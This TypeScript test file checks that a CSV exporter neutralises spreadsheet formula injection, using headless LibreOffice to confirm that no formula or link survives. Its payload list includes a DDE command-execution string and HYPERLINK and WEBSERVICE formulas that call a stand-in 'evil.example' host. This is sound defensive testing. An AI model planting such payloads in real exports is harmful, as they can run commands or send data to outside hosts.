// The CSV opened by a real spreadsheet, headless: what it would compute, it would have turned into a formula.
// Skipped, loudly, where LibreOffice is missing; CI installs Debian's `libreoffice-calc`.
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Answer } from '../../src/domain/answer.ts';
import { renderCsv } from '../../src/render/csv.ts';
import { hostileRuns, hostileText } from './hostile-text.ts';
import { HOSTILE, hostileAnswer } from './sample-replies.ts';

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find(existsSync);
const TITLE =
  SOFFICE === undefined ? 'the CSV in LibreOffice (SKIPPED: it is not installed)' : 'the CSV in LibreOffice';
/** What spreadsheets compute from, and the ways around an escape that have been seen. */
const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1;1)',
    '=cmd|"/C calc"!A0',
    '\t=1+1',
    ' =1+1',
    '\n=1+1',
    '\r\n=1+1',
    '"=1+1',
    "'=1+1",
  ],
  ...[
    '＝1+1',
    'a;=1+1',
    'a,=1+1',
    'a","=1+1',
    '=HYPERLINK("https://evil.example";"x")',
    '=WEBSERVICE("https://evil.example")',
  ],
];
const TEXTS = [...FORMULAS, HOSTILE];
const COMMA = 44;
const SEMICOLON = 59;
const ACTIVE = /table:formula|<text:a /;

let folder = '';

/** One answer that holds the rows of many hostile ones. */
function answerOf(texts: readonly string[]): Answer {
  const answers = texts.map(hostileAnswer);
  return { ...hostileAnswer('x'), done: answers.flatMap(({ done }) => done), attempted: [], related: [] };
}

/** The sheets as LibreOffice understands them: flat XML, which keeps formulas apart from texts. `separator`: its code. */
async function sheetsOf(csvs: readonly string[], separator: number): Promise<readonly string[]> {
  const names = csvs.map((_, index) => join(folder, `${separator}-${index}`));
  for (const [index, name] of names.entries()) writeFileSync(`${name}.csv`, csvs[index] ?? '');
  // The third token is UTF-8; the last but one evaluates formulas, which is off by default in new releases.
  const filter = `--infilter=CSV:${separator},34,76,1,,0,false,true,false,false,false,-1,true`;
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`;
  const files = names.map((name) => `${name}.csv`);
  const args = [profile, '--headless', filter, '--convert-to', 'fods', '--outdir', folder, ...files];
  await promisify(execFile)(SOFFICE ?? '', args, { timeout: 50_000 });
  return names.map((name) => {
    // With every sheet asked for, the name of the only one is put behind that of the file.
    const written = readdirSync(folder).find((each) => join(folder, each).startsWith(name) && each.endsWith('.fods'));
    return readFileSync(join(folder, written ?? 'missing'), 'utf8');
  });
}

describe.skipIf(SOFFICE === undefined)(TITLE, () => {
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), 'whodid-calc-'));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('holds no formula and no link, and a formula would have been noticed', async () => {
    const generated = fc.sample(hostileText, { ...hostileRuns(60), seed: 7 });
    const csv = renderCsv(answerOf([...TEXTS, ...generated]), { bom: true });
    const [ours = '', canary = ''] = await sheetsOf([csv, 'a,b\r\n"=1+1",x\r\n'], COMMA);
    expect(ours.match(/<table:table-row/g)?.length).toBeGreaterThan(100);
    expect(ours).not.toMatch(ACTIVE);
    expect(canary).toMatch(ACTIVE);
  });

  it('holds none either where a semicolon parts the fields', async () => {
    const csv = renderCsv(answerOf(TEXTS), { bom: true });
    const [ours = '', canary = ''] = await sheetsOf([csv, 'a;b\r\n=1+1;x\r\n'], SEMICOLON);
    expect(ours.match(/<table:table-row/g)?.length).toBeGreaterThan(20);
    expect(ours).not.toMatch(ACTIVE);
    expect(canary).toMatch(ACTIVE);
  });
});
